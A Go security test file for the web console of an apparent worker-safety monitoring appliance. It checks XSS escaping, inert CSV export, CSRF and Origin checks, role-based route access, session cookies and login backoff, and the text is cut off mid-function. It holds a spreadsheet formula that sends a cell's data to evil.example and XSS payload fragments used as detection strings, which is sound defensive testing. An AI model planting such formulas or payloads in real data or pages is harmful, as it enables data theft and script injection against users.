package console_test

import (
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/vigilarc/vigil/appliance/monitoring"
	"github.com/vigilarc/vigil/appliance/monitoring/monitoringtest"
	"github.com/vigilarc/vigil/ui/auth"
	"github.com/vigilarc/vigil/ui/console"
	"github.com/vigilarc/vigil/ui/uitest"
)

// securityEnv is one node's console and API (uitest) with the seed, an
// open alarm of the hostile worker Eve and one of Amira, and Olivia, Sam
// and Ada signed in over plain HTTP.
type securityEnv struct {
	srv        *uitest.Server
	svc        *monitoring.Service
	olivia     *uitest.Session // operator
	sam        *uitest.Session // supervisor
	ada        *uitest.Session // admin
	eveAlarm   string
	amiraAlarm string
	fixture    uitest.Fixture
}

// adaPassword is the password of Ada, the admin of the security tests.
const adaPassword = "ada administers the appliance"

// hostileCSV would run as a formula in a spreadsheet if exported as it is.
const hostileCSV = `=HYPERLINK("https://evil.example/?"&A1,"click")`

func mustSecurityEnv(t *testing.T) *securityEnv {
	t.Helper()
	srv := uitest.MustServe(t, monitoringtest.MustService(t, monitoringtest.Options{}), uitest.Options{})
	svc := srv.Node.Service
	e := &securityEnv{srv: srv, svc: svc, fixture: uitest.MustSeed(t, svc)}
	ctx := context.Background()
	a, err := svc.RaiseAlarm(ctx, "sec-eve", "device:d-eve", monitoring.RaiseAlarmRequest{Type: monitoring.AlarmRedAlert, DeviceID: "d-eve",
		Location: &monitoring.Location{Lat: 53.48, Lon: -2.29, Accuracy: 30, Source: "wifi"}})
	if err != nil {
		t.Fatal(err)
	}
	e.eveAlarm = a.ID
	if _, err := svc.Acknowledge(ctx, "sec-eve-ack", "olivia", a.ID, false); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.LogAction(ctx, "sec-eve-note", "olivia", a.ID, monitoring.TimelineEntry{Kind: monitoring.ActionNote, Text: uitest.HostileMedical}); err != nil {
		t.Fatal(err)
	}
	a, err = svc.RaiseAlarm(ctx, "sec-amira", "device:d-amira", monitoring.RaiseAlarmRequest{Type: monitoring.AlarmManDown, DeviceID: "d-amira"})
	if err != nil {
		t.Fatal(err)
	}
	e.amiraAlarm = a.ID
	// Hostile strings on the new pages too: Eve's session and its Update
	// message, an operator's name, a note that is a spreadsheet formula.
	if _, err := svc.StartSession(ctx, "sec-eve-session", "device:d-eve", monitoring.StartSessionRequest{WorkerID: "w-eve", DeviceID: "d-eve",
		Duration: time.Hour, Update: uitest.HostileMedical, Location: &monitoring.Location{Lat: 53.4, Lon: -2.2, Address: uitest.HostileStep}}); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.LogAction(ctx, "sec-eve-csv", "olivia", e.eveAlarm, monitoring.TimelineEntry{Kind: monitoring.ActionNote, Text: hostileCSV}); err != nil {
		t.Fatal(err)
	}
	b, err := svc.RaiseAlarm(ctx, "sec-ben", "device:d-ben", monitoring.RaiseAlarmRequest{Type: monitoring.AlarmRedAlert, DeviceID: "d-ben"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Acknowledge(ctx, "sec-ben-ack", "olivia", b.ID, false); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Close(ctx, "sec-ben-close", "olivia", b.ID, monitoring.ResolutionFalseAlarm, monitoring.ConfirmedByWorker, hostileCSV, ""); err != nil {
		t.Fatal(err)
	}
	for _, o := range []monitoring.PutOperatorRequest{
		{ID: "ada", Name: "Ada Lovelace", Role: monitoring.RoleAdmin, Password: adaPassword, Create: true},
		{ID: "mallory", Name: uitest.HostileName, Role: monitoring.RoleOperator, Password: "mallory's password", Create: true},
	} {
		if _, err := svc.PutOperator(ctx, "sec-op-"+o.ID, "setup", o); err != nil {
			t.Fatal(err)
		}
	}
	for _, s := range []struct {
		sess           **uitest.Session
		user, password string
	}{{&e.olivia, "olivia", uitest.OliviaPassword}, {&e.sam, "sam", uitest.SamPassword}, {&e.ada, "ada", adaPassword}} {
		*s.sess = uitest.NewSession(t, srv.URL)
		if code := (*s.sess).SignIn(s.user, s.password); code != http.StatusOK {
			t.Fatalf("sign in %s: %d", s.user, code)
		}
	}
	return e
}

func TestSecurity_HostileStringsRenderInert(t *testing.T) {
	e := mustSecurityEnv(t)
	for _, path := range []string{"/ui/", "/ui/alarms/" + e.eveAlarm, "/ui/queue.json", "/ui/sessions", "/ui/sessions?q=" + url.QueryEscape(uitest.HostileName),
		"/ui/cluster", "/ui/reports", "/ui/reports?org=housing", "/ui/admin/organisations", "/ui/admin/organisations/housing",
		"/ui/admin/workers", "/ui/admin/workers/w-eve", "/ui/admin/devices", "/ui/admin/devices/d-eve", "/ui/admin/operators",
		"/ui/admin/operators?edit=mallory"} {
		resp, body := e.ada.Do(http.MethodGet, path, nil, nil)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d", path, resp.StatusCode)
		}
		for _, bad := range []string{"<script>window.pwned", "<img src=x", `"><script>`, `<b onclick`, `<i>"Repairs"`,
			`href="javascript:`, `src="javascript:`, "onerror=\"window", "href=\"tel:javascript"} {
			if strings.Contains(body, bad) {
				t.Errorf("%s contains %q unescaped", path, bad)
			}
		}
		if strings.HasSuffix(path, ".json") {
			continue
		}
		if !strings.Contains(body, "Eve &lt;script&gt;window.pwned=1&lt;/script&gt;") && !strings.Contains(path, "organisations") && path != "/ui/cluster" {
			t.Errorf("%s does not show the hostile name escaped", path)
		}
		// Exactly one script element: the console's own file.
		if n := strings.Count(body, "<script"); n != 1 {
			t.Errorf("%s has %d script elements, want 1", path, n)
		}
		if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
			t.Errorf("%s: CSP %q", path, csp)
		}
	}
}

// TestSecurity_CSVExportIsInert: the export quotes what a spreadsheet
// would take for a formula, and is only for supervisors.
func TestSecurity_CSVExportIsInert(t *testing.T) {
	e := mustSecurityEnv(t)
	resp, body := e.sam.Do(http.MethodGet, "/ui/reports/alarms.csv", nil, nil)
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
		!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment;") {
		t.Fatalf("export: %d %v", resp.StatusCode, resp.Header)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatalf("%d rows (%v):\n%s", len(rows), err, body)
	}
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("cell %q would be a formula", cell)
			}
		}
	}
	if !strings.Contains(body, "'"+hostileCSV[:10]) || !strings.Contains(body, "Eve <script>") {
		t.Errorf("the export lost the note or the name:\n%s", body)
	}
	if resp, _ := e.olivia.Do(http.MethodGet, "/ui/reports/alarms.csv", nil, nil); resp.StatusCode != http.StatusForbidden {
		t.Errorf("an operator's export: %d", resp.StatusCode)
	}
}

func TestSecurity_CrossSitePostsRefused(t *testing.T) {
	e := mustSecurityEnv(t)
	path := "/ui/alarms/" + e.amiraAlarm + "/acknowledge"
	for _, tc := range []struct {
		name    string
		form    url.Values
		headers map[string]string
	}{
		{"no CSRF token", url.Values{}, nil},
		{"wrong CSRF token", url.Values{"csrf": {otherFirst(e.olivia.CSRF)}}, nil},
		{"another session's token", url.Values{"csrf": {otherCSRF(t, e)}}, nil},
		{"foreign Origin", url.Values{"csrf": {e.olivia.CSRF}}, map[string]string{"Origin": "https://evil.example"}},
		{"null Origin", url.Values{"csrf": {e.olivia.CSRF}}, map[string]string{"Origin": "null"}},
		{"no Origin nor Referer", url.Values{"csrf": {e.olivia.CSRF}}, map[string]string{"Origin": ""}},
		{"foreign Referer only", url.Values{"csrf": {e.olivia.CSRF}}, map[string]string{"Origin": "", "Referer": "https://evil.example/x"}},
		{"look-alike Origin", url.Values{"csrf": {e.olivia.CSRF}}, map[string]string{"Origin": e.srv.URL + ".evil.example"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, body := e.olivia.Do(http.MethodPost, path, tc.form, tc.headers)
			if resp.StatusCode != http.StatusForbidden {
				t.Fatalf("status %d, want 403: %s", resp.StatusCode, body)
			}
		})
	}
	if a, _ := e.svc.Alarm(e.amiraAlarm); a.AckBy != "" {
		t.Fatalf("a refused post acknowledged the alarm: %+v", a)
	}
	// The same request from the page itself works, as a form and as the
	// script's fetch.
	resp, _ := e.olivia.Do(http.MethodPost, path, url.Values{"csrf": {e.olivia.CSRF}, "cmd_id": {"k1"}}, nil)
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("a same-origin post: %d", resp.StatusCode)
	}
	resp, body := e.olivia.Do(http.MethodPost, "/ui/alarms/"+e.amiraAlarm+"/actions", url.Values{"kind": {"listen_in"}},
		map[string]string{"X-CSRF-Token": e.olivia.CSRF, "Accept": "application/json"})
	if resp.StatusCode != http.StatusOK || !strings.Contains(body, `"ok":true`) {
		t.Fatalf("the script's post: %d %s", resp.StatusCode, body)
	}
	// Every other state-changing route refuses the same cross-site
	// requests, even from an admin.
	posts := map[string]url.Values{
		"/ui/logout":        {},
		"/ui/resume/ticket": {},
		"/ui/alarms/" + e.amiraAlarm + "/actions": {"kind": {"listen_in"}},
		"/ui/alarms/" + e.amiraAlarm + "/close":   {"resolution": {"false_alarm"}},
		"/ui/alarms/" + e.amiraAlarm + "/prompt":  {"kind": {"tap_twice"}},
		"/ui/alarms/" + e.amiraAlarm + "/listen":  {"seconds": {"60"}},
		"/ui/alarms/" + e.eveAlarm + "/reopen":    {"reason": {"x"}},
		"/ui/admin/organisations":                 {"new": {"1"}, "id": {"evilcorp"}, "name": {"Evil"}},
		"/ui/admin/workers":                       {"new": {"1"}, "id": {"w-evil"}, "name": {"Evil"}, "org_id": {"northcare"}},
		"/ui/admin/workers/w-amira/pins":          {"safe_pin": {"4321"}},
		"/ui/admin/devices":                       {"new": {"1"}, "id": {"d-evil"}, "kind": {"phone_app"}, "org_id": {"northcare"}, "worker_id": {"w-amira"}},
		"/ui/admin/devices/d-amira/credentials":   {},
		"/ui/admin/operators":                     {"create": {"1"}, "id": {"evil"}, "name": {"Evil"}, "role": {"admin"}, "password": {"evil evil evil"}},
	}
	before := stateOf(t, e)
	for path, form := range posts {
		for _, tc := range []struct {
			name    string
			csrf    string
			headers map[string]string
		}{
			{"no CSRF token", "", nil},
			{"another session's token", e.olivia.CSRF, nil},
			{"foreign Origin", e.ada.CSRF, map[string]string{"Origin": "https://evil.example"}},
			{"no Origin nor Referer", e.ada.CSRF, map[string]string{"Origin": ""}},
		} {
			f := url.Values{}
			for k, v := range form {
				f[k] = v
			}
			if tc.csrf != "" {
				f.Set("csrf", tc.csrf)
			}
			resp, body := e.ada.Do(http.MethodPost, path, f, tc.headers)
			if resp.StatusCode != http.StatusForbidden {
				t.Errorf("POST %s, %s: %d, want 403: %s", path, tc.name, resp.StatusCode, body)
			}
		}
	}
	if after := stateOf(t, e); after != before {
		t.Errorf("refused cross-site posts changed the directory:\nbefore %s\nafter  %s", before, after)
	}
	// A hand-over from a site that is no console of the cluster.
	resp, body = uitest.NewSession(t, e.srv.URL).Do(http.MethodPost, "/ui/resume", url.Values{"ticket": {"x"}},
		map[string]string{"Origin": "https://evil.example"})
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("a hand-over from evil.example: %d %s", resp.StatusCode, body)
	}

	// Sign-in itself: a foreign Origin, or no login token, is refused.
	s := uitest.NewSession(t, e.srv.URL)
	_, page := s.Do(http.MethodGet, "/ui/login", nil, nil)
	tok := uitest.FormCSRF(page)
	form := url.Values{"user": {"olivia"}, "password": {uitest.OliviaPassword}, "csrf": {tok}}
	if resp, _ := s.Do(http.MethodPost, "/ui/login", form, map[string]string{"Origin": "https://evil.example"}); resp.StatusCode != http.StatusForbidden {
		t.Fatalf("a cross-site sign-in: %d", resp.StatusCode)
	}
	bad := url.Values{"user": {"olivia"}, "password": {uitest.OliviaPassword}, "csrf": {"forged"}}
	if resp, _ := s.Do(http.MethodPost, "/ui/login", bad, nil); resp.StatusCode != http.StatusForbidden {
		t.Fatalf("a sign-in without the form's token: %d", resp.StatusCode)
	}
}

// otherCSRF signs Sam in and returns his page's CSRF token.
func otherCSRF(t *testing.T, e *securityEnv) string {
	s := uitest.NewSession(t, e.srv.URL)
	if code := s.SignIn("sam", uitest.SamPassword); code != http.StatusOK {
		t.Fatalf("sam: %d", code)
	}
	return s.CSRF
}

// stateOf summarises what the refused posts could have changed.
func stateOf(t *testing.T, e *securityEnv) string {
	t.Helper()
	var sb strings.Builder
	orgs, err1 := e.svc.Organisations()
	workers, err2 := e.svc.Workers("")
	devices, err3 := e.svc.Devices()
	ops, err4 := e.svc.Operators()
	if err := errors.Join(err1, err2, err3, err4); err != nil {
		t.Fatal(err)
	}
	for _, o := range orgs {
		fmt.Fprintf(&sb, "org %s %s; ", o.ID, o.UpdatedAt)
	}
	for _, w := range workers {
		fmt.Fprintf(&sb, "worker %s pins %d; ", w.ID, w.PINVersion)
	}
	for _, d := range devices {
		fmt.Fprintf(&sb, "device %s %s; ", d.ID, d.UpdatedAt)
	}
	for _, o := range ops {
		fmt.Fprintf(&sb, "operator %s %s; ", o.ID, o.Role)
	}
	for _, id := range []string{"d-amira", "d-ben"} {
		fmt.Fprintf(&sb, "secret %s %v; ", id, e.svc.CheckDeviceSecret(id, secretOf(e, id)))
	}
	for _, id := range []string{e.amiraAlarm, e.eveAlarm} {
		a, err := e.svc.Alarm(id)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&sb, "alarm %s %s %d; ", a.ID, a.Status, a.Actions)
	}
	return sb.String()
}

func secretOf(e *securityEnv, device string) string {
	for _, d := range []uitest.DeviceCred{e.fixture.Amira, e.fixture.Ben, e.fixture.Eve} {
		if d.Device == device {
			return d.Secret
		}
	}
	return ""
}

// consoleRoutes are the console's routes, with who may call them: "" any
// signed-in operator, a role, "bearer" the local setup token, "public"
// anyone (they tell nothing and change nothing without a ticket).
var consoleRoutes = map[string]string{
	"GET /ui":                                      "",
	"GET /ui/":                                     "",
	"GET /ui/events":                               "",
	"GET /ui/queue.json":                           "",
	"GET /ui/alarms/:id":                           "",
	"POST /ui/logout":                              "",
	"POST /ui/alarms/:id/acknowledge":              "",
	"POST /ui/alarms/:id/actions":                  "",
	"POST /ui/alarms/:id/close":                    "",
	"POST /ui/alarms/:id/prompt":                   "",
	"POST /ui/alarms/:id/listen":                   "",
	"POST /ui/alarms/:id/briefing":                 "",
	"POST /ui/alarms/:id/reopen":                   "supervisor",
	"POST /ui/alarms/:id/hold":                     "supervisor",
	"POST /ui/alarms/:id/release":                  "supervisor",
	"POST /ui/resume/ticket":                       "",
	"GET /ui/sessions":                             "",
	"GET /ui/cluster":                              "",
	"GET /ui/reports":                              "supervisor",
	"GET /ui/reports/alarms.csv":                   "supervisor",
	"GET /ui/reports/notifications":                "supervisor",
	"GET /ui/reports/monthly":                      "supervisor",
	"GET /ui/reports/monthly.csv":                  "supervisor",
	"GET /ui/reports/monthly.pdf":                  "supervisor",
	"GET /ui/reports/incidents":                    "supervisor",
	"GET /ui/reports/incidents/:id":                "supervisor",
	"GET /ui/reports/incidents/:id/report.pdf":     "supervisor",
	"POST /ui/reports/incidents/:id":               "supervisor",
	"POST /ui/alarms/:id/audio-links":              "",
	"POST /ui/alarms/:id/audio-links/:link/revoke": "",
	"GET /ui/admin":                                "admin",
	"GET /ui/admin/organisations":                  "admin",
	"GET /ui/admin/organisations/:id":              "admin",
	"POST /ui/admin/organisations":                 "admin",
	"GET /ui/admin/workers":                        "admin",
	"GET /ui/admin/workers/:id":                    "admin",
	"POST /ui/admin/workers":                       "admin",
	"POST /ui/admin/workers/:id/pins":              "admin",
	"GET /ui/admin/devices":                        "admin",
	"GET /ui/admin/devices/:id":                    "admin",
	"POST /ui/admin/devices":                       "admin",
	"POST /ui/admin/devices/:id/credentials":       "admin",
	"GET /ui/admin/operators":                      "admin",
	"POST /ui/admin/operators":                     "admin",
	"GET /ui/setup/operators":                      "bearer",
	"POST /ui/setup/operators":                     "bearer",
	"GET /ui/setup/tokens":                         "bearer",
	"POST /ui/setup/tokens":                        "bearer",
	"POST /ui/setup/tokens/:id/disable":            "bearer",
	"GET /ui/ca.crt":                               "public",
	"GET /ui/alive":                                "public",
	"GET /":                                        "public",
	"POST /ui/resume":                              "public",
}

// routePath fills in a route's parameters.
func routePath(e *securityEnv, route string) (method, path string) {
	method, path, _ = strings.Cut(route, " ")
	id := e.amiraAlarm
	switch {
	case strings.Contains(path, "/workers/"):
		id = "w-amira"
	case strings.Contains(path, "/devices/"):
		id = "d-amira"
	case strings.Contains(path, "/organisations/"):
		id = "northcare"
	}
	return method, strings.ReplaceAll(path, ":id", id)
}

func TestSecurity_EveryRouteRefusesAnonymousCallers(t *testing.T) {
	e := mustSecurityEnv(t)
	anon := uitest.NewSession(t, e.srv.URL)
	routes := consoleRoutes
	// Every route the console mounts is in the list, so that a new one
	// cannot be forgotten here.
	for _, r := range mountedRoutes(t) {
		switch {
		case r == "GET /ui/login", r == "POST /ui/login", strings.HasPrefix(r, "GET /ui/static/"), strings.HasPrefix(r, "HEAD /ui/static/"):
			continue
		}
		if _, ok := routes[r]; !ok {
			t.Errorf("route %s is not checked for anonymous callers", r)
		}
	}
	for r, kind := range routes {
		method, path := routePath(e, r)
		page := map[string]string{"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
		for _, headers := range []map[string]string{page, nil, {"Accept": "application/json"}, {"Accept": "text/event-stream"}} {
			resp, body := anon.Do(method, path, url.Values{"csrf": {"x"}, "ticket": {"made-up"}}, headers)
			switch {
			case kind == "public":
				// Anyone may ask whether the node is up; a made-up ticket
				// signs nobody in.
				if r == "POST /ui/resume" && (resp.StatusCode != http.StatusUnauthorized || len(anon.Cookies) != 0 || !strings.Contains(body, "Sign in")) {
					t.Errorf("%s with a made-up ticket: %d, cookies %v", r, resp.StatusCode, anon.Cookies)
				}
				if r == "GET /" && (resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != "/ui/") {
					t.Errorf("%s: %d to %q, want 302 to /ui/", r, resp.StatusCode, resp.Header.Get("Location"))
				}
				if r == "GET /ui/alive" && (resp.StatusCode != http.StatusOK || !strings.Contains(body, `"ok":true`)) {
					t.Errorf("%s: %d %s", r, resp.StatusCode, body)
				}
			case kind == "bearer" || method == http.MethodPost || headers["Accept"] != page["Accept"]:
				if resp.StatusCode != http.StatusUnauthorized {
					t.Errorf("%s %v: %d, want 401: %s", r, headers, resp.StatusCode, body)
				}
			default:
				if resp.StatusCode != http.StatusSeeOther || !strings.HasPrefix(resp.Header.Get("Location"), "/ui/login?next=") {
					t.Errorf("%s: %d to %q, want 303 to the sign-in page", r, resp.StatusCode, resp.Header.Get("Location"))
				}
			}
			if strings.Contains(body, "Amira") {
				t.Errorf("%s told an anonymous caller about the alarm: %s", r, body)
			}
		}
	}
	// An operator is refused the supervisors' and the admins' routes, and a
	// supervisor the admins', with a valid session and CSRF token: nothing
	// changes.
	before := stateOf(t, e)
	for r, kind := range routes {
		method, path := routePath(e, r)
		for _, caller := range []struct {
			s    *uitest.Session
			role monitoring.OperatorRole
		}{{e.olivia, monitoring.RoleOperator}, {e.sam, monitoring.RoleSupervisor}} {
			need := monitoring.OperatorRole(kind)
			if !need.Valid() || caller.role.AtLeast(need) {
				continue
			}
			form := url.Values{"csrf": {caller.s.CSRF}, "new": {"1"}, "create": {"1"}, "id": {"x-" + string(caller.role)}, "name": {"X"},
				"role": {"admin"}, "password": {"a long password indeed"}, "org_id": {"northcare"}, "kind": {"pooled"}, "safe_pin": {"4321"}}
			for _, headers := range []map[string]string{{"Accept": "text/html"}, {"Accept": "application/json"}} {
				resp, body := caller.s.Do(method, path, form, headers)
				if resp.StatusCode != http.StatusForbidden {
					t.Errorf("%s as %s (%v): %d, want 403", r, caller.role, headers, resp.StatusCode)
				}
				if strings.Contains(body, "Amira") || strings.Contains(body, "North Care") {
					t.Errorf("%s told a %s what only a %s may see", r, caller.role, kind)
				}
			}
		}
	}
	if after := stateOf(t, e); after != before {
		t.Errorf("refused requests changed the directory:\nbefore %s\nafter  %s", before, after)
	}

	// A session cookie that is not a session is anonymous too.
	anon.Cookies["__Host-vigil_session"] = "made-up"
	if resp, _ := anon.Do(http.MethodGet, "/ui/queue.json", nil, nil); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("a made-up session: %d", resp.StatusCode)
	}
	// The setup API refuses a wrong token.
	if resp, _ := anon.Do(http.MethodGet, "/ui/setup/operators", nil, map[string]string{"Authorization": "Bearer nope"}); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("setup with a wrong token: %d", resp.StatusCode)
	}
	// The REST API refuses anonymous callers too (every route of it:
	// appliance's TestAPIAuth_EveryRoute).
	if resp, body := anon.Do(http.MethodGet, "/api/v1/alarms", nil, nil); resp.StatusCode != http.StatusUnauthorized || strings.Contains(body, "Amira") {
		t.Errorf("GET /api/v1/alarms: %d", resp.StatusCode)
	}
}

// The console's own pages use the REST API with the sign-in cookie: reads
// as they are (the alarm page's audio link), writes with the page's CSRF
// token and Origin, as the console's forms; the roles are the console's.
func TestSecurity_RESTAPIWithTheConsoleCookie(t *testing.T) {
	e := mustSecurityEnv(t)
	audio := "/api/v1/alarms/" + e.amiraAlarm + "/audio.wav"
	if resp, body := e.olivia.Do(http.MethodGet, audio, nil, nil); resp.StatusCode != http.StatusNotFound || !strings.Contains(body, "has no audio") {
		t.Errorf("the alarm page's audio link: %d %s; want 404 (no audio), past the sign-in", resp.StatusCode, body)
	}
	if resp, body := e.olivia.Do(http.MethodGet, "/api/v1/alarms/"+e.amiraAlarm, nil, nil); resp.StatusCode != http.StatusOK || !strings.Contains(body, "d-amira") {
		t.Errorf("GET the alarm: %d %s", resp.StatusCode, body)
	}
	before := stateOf(t, e)
	path := "/api/v1/alarms/" + e.eveAlarm + "/actions" // Olivia holds it
	note := `{"id":"cookie-note","kind":"note","text":"through the API"}`
	for _, tc := range []struct {
		name    string
		headers map[string]string
		mention string
	}{
		{"no CSRF token", nil, "security token"},
		{"a wrong CSRF token", map[string]string{"X-CSRF-Token": e.sam.CSRF}, "security token"},
		{"another origin", map[string]string{"X-CSRF-Token": e.olivia.CSRF, "Origin": "https://evil.example"}, "did not come from"},
	} {
		h := map[string]string{"Content-Type": "application/json"}
		for k, v := range tc.headers {
			h[k] = v
		}
		resp, body := e.olivia.DoBody(http.MethodPost, path, note, h)
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, tc.mention) {
			t.Errorf("a cookie POST with %s: %d %s", tc.name, resp.StatusCode, body)
		}
	}
	if after := stateOf(t, e); after != before {
		t.Errorf("refused API requests changed the state:\nbefore %s\nafter  %s", before, after)
	}
	hdr := map[string]string{"Content-Type": "application/json", "X-CSRF-Token": e.olivia.CSRF}
	if resp, body := e.olivia.DoBody(http.MethodPost, path, note, hdr); resp.StatusCode != http.StatusOK || !strings.Contains(body, `"id"`) {
		t.Fatalf("a cookie POST with the CSRF token: %d %s", resp.StatusCode, body)
	}
	tl, err := e.svc.Timeline(e.eveAlarm)
	if err != nil || tl[len(tl)-1].Actor != "olivia" || tl[len(tl)-1].Text != "through the API" {
		t.Errorf("the note is by %+v (%v), want olivia", tl[len(tl)-1], err)
	}
	// An operator's cookie is an operator's: no KPIs, no directory.
	if resp, body := e.olivia.Do(http.MethodGet, "/api/v1/kpis", nil, nil); resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "supervisor") {
		t.Errorf("an operator's KPIs: %d %s", resp.StatusCode, body)
	}
	if resp, _ := e.sam.Do(http.MethodGet, "/api/v1/kpis", nil, nil); resp.StatusCode != http.StatusOK {
		t.Errorf("a supervisor's KPIs: %d", resp.StatusCode)
	}
	if resp, _ := e.sam.Do(http.MethodGet, "/api/v1/tokens", nil, nil); resp.StatusCode != http.StatusForbidden {
		t.Errorf("a supervisor's tokens: %d", resp.StatusCode)
	}
	if resp, _ := e.ada.Do(http.MethodGet, "/api/v1/tokens", nil, nil); resp.StatusCode != http.StatusOK {
		t.Errorf("an admin's tokens: %d", resp.StatusCode)
	}
	// Signed out, the cookie is nobody.
	e.olivia.Do(http.MethodPost, "/ui/logout", url.Values{"csrf": {e.olivia.CSRF}}, nil)
	e.olivia.Cookies["__Host-vigil_session"] = "made-up"
	if resp, _ := e.olivia.Do(http.MethodGet, "/api/v1/alarms", nil, nil); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("after signing out: %d", resp.StatusCode)
	}
}

// mountedRoutes lists "METHOD path" of every route the console mounts.
func mountedRoutes(t *testing.T) []string {
	t.Helper()
	c, err := console.New(console.Config{}, nil, auth.New(auth.Config{}, nil))
	if err != nil {
		t.Fatal(err)
	}
	r := newEngine()
	c.Mount(r)
	var out []string
	for _, ri := range r.Routes() {
		out = append(out, ri.Method+" "+ri.Path)
	}
	return out
}

func TestSecurity_SessionCookieAndSignOut(t *testing.T) {
	e := mustSecurityEnv(t)
	s := uitest.NewSession(t, e.srv.URL)
	_, page := s.Do(http.MethodGet, "/ui/login", nil, nil)
	tok := uitest.FormCSRF(page)
	resp, _ := s.Do(http.MethodPost, "/ui/login", url.Values{"user": {"olivia"}, "password": {uitest.OliviaPassword}, "csrf": {tok}, "next": {"https://evil.example/"}}, nil)
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/ui/" {
		t.Fatalf("sign-in with a foreign next: %d to %q", resp.StatusCode, resp.Header.Get("Location"))
	}
	var cookie *http.Cookie
	for _, c := range resp.Cookies() {
		if c.Name == "__Host-vigil_session" && c.Value != "" {
			cookie = c
		}
	}
	if cookie == nil || !cookie.HttpOnly || !cookie.Secure || cookie.SameSite != http.SameSiteStrictMode || cookie.Path != "/" {
		t.Fatalf("session cookie %+v: want __Host-, HttpOnly, Secure, SameSite=Strict, Path=/", cookie)
	}
	if resp, _ := s.Do(http.MethodGet, "/ui/queue.json", nil, nil); resp.StatusCode != http.StatusOK {
		t.Fatalf("signed in: %d", resp.StatusCode)
	}
	_, page = s.Do(http.MethodGet, "/ui/", nil, nil)
	csrf := uitest.PageCSRF(page)
	if resp, _ := s.Do(http.MethodPost, "/ui/logout", url.Values{"csrf": {csrf}}, nil); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign out: %d", resp.StatusCode)
	}
	// The old cookie no longer works, even if a browser kept it.
	s.Cookies["__Host-vigil_session"] = cookie.Value
	if resp, _ := s.Do(http.MethodGet, "/ui/queue.json", nil, nil); resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("after sign-out: %d", resp.StatusCode)
	}
}

// signInAs posts the sign-in form with a fresh form token and returns the
// status and the page.
func signInAs(s *uitest.Session, user, password string, headers map[string]string) (int, string) {
	_, page := s.Do(http.MethodGet, "/ui/login", nil, headers)
	resp, body := s.Do(http.MethodPost, "/ui/login", url.Values{"user": {user}, "password": {password}, "csrf": {uitest.FormCSRF(page)}}, headers)
	return resp.StatusCode, body
}

// TestSecurity_BackoffSparesTheRealUser: wrong passwords from an attacker
// slow the account down but never keep out the real user in a browser
// that signed in before, even with the right password from the attacker's
// address spent; unknown, wrong and slowed-down get one answer.
func TestSecurity_BackoffSparesTheRealUser(t *testing.T) {
	e := mustSecurityEnv(t)
	sam := uitest.NewSession(t, e.srv.URL)
	if code := sam.SignIn("sam", uitest.SamPassword); code != http.StatusOK {
		t.Fatalf("sam's first sign-in: %d", code)
	}
	if sam.Cookies["__Host-"+auth.BrowserCookie] == "" {
		t.Fatalf("no known-browser cookie after signing in: %v", sam.Cookies)
	}
	attacker := uitest.NewSession(t, e.srv.URL)
	unknownCode, unknownPage := signInAs(attacker, "nobody", "not the password", nil)
	answer := "After several wrong passwords"
	if unknownCode != http.StatusUnauthorized || !strings.Contains(unknownPage, answer) {
		t.Fatalf("an unknown user: %d %s", unknownCode, unknownPage)
	}
	for i := range monitoring.FreeFailedLogins + 1 { // within the address's ten attempts
		code, page := signInAs(attacker, "sam", "not the password", nil)
		if code != unknownCode || !strings.Contains(page, answer) || strings.Contains(page, "locked") {
			t.Fatalf("wrong password %d: %d, want the unknown user's answer:\n%s", i+1, code, page)
		}
	}
	// The right password from the attacker's browser waits...
	if code, page := signInAs(attacker, "sam", uitest.SamPassword, nil); code != unknownCode || !strings.Contains(page, answer) {
		t.Fatalf("the right password from an unknown browser while slowed down: %d %s", code, page)
	}
	// ...but Sam's own browser gets in, its session over.
	delete(sam.Cookies, "__Host-"+auth.SessionCookie)
	if code := sam.SignIn("sam", uitest.SamPassword); code != http.StatusOK {
		t.Fatalf("sam's browser after the attacker's guesses: %d", code)
	}
	// The attacker spends this address's sign-in attempts; Sam, on the
	// same address, is still let in.
	for i := 0; ; i++ {
		if code, _ := signInAs(attacker, "olivia", "wrong again", nil); code == http.StatusTooManyRequests {
			break
		}
		if i > 20 {
			t.Fatal("no per-address limit after 20 attempts")
		}
	}
	delete(sam.Cookies, "__Host-"+auth.SessionCookie)
	if code := sam.SignIn("sam", uitest.SamPassword); code != http.StatusOK {
		t.Fatalf("sam's browser behind the attacker's address: %d", code)
	}
	ops, err := e.svc.Operators()
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range ops {
		if o.ID == "olivia" && o.FailedLogins > 20 {
			t.Fatalf("rate-limited attempts were counted: %+v", o)
		}
		if !o.LockedUntil.IsZero() {
			t.Fatalf("an account was locked: %+v", o)
		}
	}
}

// TestSecurity_TrustedProxyNamesTheClient: behind a trusted proxy the
// per-address limit counts the client X-Forwarded-For names, so one
// guesser does not use up every operator's attempts; from a peer that is
// not trusted the header is ignored.
func TestSecurity_TrustedProxyNamesTheClient(t *testing.T) {
	for _, tc := range []struct {
		name    string
		proxies []string
